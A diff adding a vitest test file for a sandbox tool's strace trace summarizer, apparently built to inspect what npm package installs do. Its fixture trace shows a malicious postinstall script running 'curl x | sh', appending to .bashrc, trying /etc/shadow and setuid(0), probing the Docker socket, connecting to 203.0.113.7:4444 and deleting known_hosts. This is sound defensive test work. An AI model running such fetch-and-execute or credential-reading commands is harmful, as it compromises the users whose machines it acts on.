@@ -1,0 +1,69 @@
+import { describe, expect, it } from 'vitest';
+import { parseStrace } from '@airlock/strace';
+import { TraceSummarizer } from '../src/trace-summary.js';
+
+// Lines in the shape the sandbox records (strace -f -ttt -s 4096 -v -yy), cut down from a real trace.
+const NPM_ENV = '"npm_lifecycle_event=postinstall", "npm_package_name=evil-pkg", "npm_lifecycle_script=sh -c \'curl x | sh\'", "HOME=/home/jordan"';
+const TRACE = [
+  `20    1795486690.100000 execve("/opt/airlock/bin/airlock-exec", ["/opt/airlock/bin/airlock-exec", "/airlock/out/install.exit", "npm", "install"], ["HOME=/home/jordan"]) = 0`,
+  `20    1795486690.200000 vfork() = 21`,
+  `21    1795486690.300000 execve("/usr/local/bin/npm", ["npm", "install"], ["HOME=/home/jordan"]) = 0`,
+  `21    1795486690.400000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f0) = 33`,
+  `33    1795486692.010000 execve("/home/jordan/projects/app/node_modules/.bin/sh", ["sh", "-c", "curl x | sh"], [${NPM_ENV}]) = -1 ENOENT (No such file or directory)`,
+  `33    1795486692.020000 execve("/usr/bin/sh", ["sh", "-c", "curl x | sh"], [${NPM_ENV}]) = 0`,
+  `33    1795486692.030000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1) = 34`,
+  `34    1795486692.040000 execve("/usr/bin/curl", ["curl", "x"], [${NPM_ENV}]) = 0`,
+  `34    1795486692.050000 openat(AT_FDCWD</home/jordan/projects/app>, "/home/jordan/.bashrc", O_WRONLY|O_APPEND) = 3</home/jordan/.bashrc>`,
+  `34    1795486692.060000 openat(AT_FDCWD</home/jordan/projects/app>, "/etc/shadow", O_RDONLY) = -1 EACCES (Permission denied)`,
+  `34    1795486692.070000 openat(AT_FDCWD</home/jordan/projects/app>, "/etc/passwd", O_RDONLY|O_CLOEXEC) = 3</etc/passwd>`,
+  `34    1795486692.080000 connect(4<UNIX-STREAM:[5001]>, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 110) = -1 ENOENT (No such file or directory)`,
+  `34    1795486692.090000 connect(5<TCP:[5002]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("203.0.113.7")}, 16) = -1 ENETUNREACH (Network is unreachable)`,
+  `34    1795486692.100000 setuid(0) = -1 EPERM (Operation not permitted)`,
+  `34    1795486692.110000 unlink("/home/jordan/.ssh/known_hosts") = 0`,
+].join('\n') + '\n';
+
+function summarize(phase: 'install' | 'import' = 'install') {
+  const summarizer = new TraceSummarizer(phase, 'evil-pkg');
+  for (const event of parseStrace(TRACE).events) summarizer.add(event);
+  return summarizer.summary;
+}
+
+describe('TraceSummarizer', () => {
+  it('lists successful execs with parent, argv and the lifecycle script they ran under, hiding the runner', () => {
+    const { processes } = summarize();
+    expect(processes.map((p) => [p.pid, p.ppid, p.path, p.argv])).toEqual([
+      [21, 20, '/usr/local/bin/npm', ['npm', 'install']],
+      [33, 21, '/usr/bin/sh', ['sh', '-c', 'curl x | sh']],
+      [34, 33, '/usr/bin/curl', ['curl', 'x']],
+    ]);
+    expect(processes[0]!.attribution).toBeNull();
+    expect(processes[2]!.attribution).toEqual({ packageName: 'evil-pkg', event: 'postinstall', script: "sh -c 'curl x | sh'" });
+  });
+
+  it('keeps writes and mutations, not reads', () => {
+    expect(summarize().fileWrites.map((w) => [w.operation, w.path, w.result])).toEqual([
+      ['write', '/home/jordan/.bashrc', 'ok'],
+      ['unlink', '/home/jordan/.ssh/known_hosts', 'ok'],
+    ]);
+  });
+
+  it('decodes connect attempts, unix and inet', () => {
+    expect(summarize().connections.map((c) => [c.family, c.address, c.port, c.result])).toEqual([
+      ['AF_UNIX', '/var/run/docker.sock', null, 'ENOENT'],
+      ['AF_INET', '203.0.113.7', 4444, 'ENETUNREACH'],
+    ]);
+  });
+
+  it('lists what the kernel refused', () => {
+    expect(summarize().denied.map((d) => [d.syscall, d.target, d.result])).toEqual([
+      ['openat', '/etc/shadow', 'EACCES'],
+      ['setuid', 'uid 0', 'EPERM'],
+    ]);
+  });
+
+  it('attributes every import-phase process to the package', () => {
+    const { processes } = summarize('import');
+    expect(processes.every((p) => p.attribution?.packageName === 'evil-pkg')).toBe(true);
+    expect(processes[0]!.attribution?.event).toBe('import');
+  });
+});
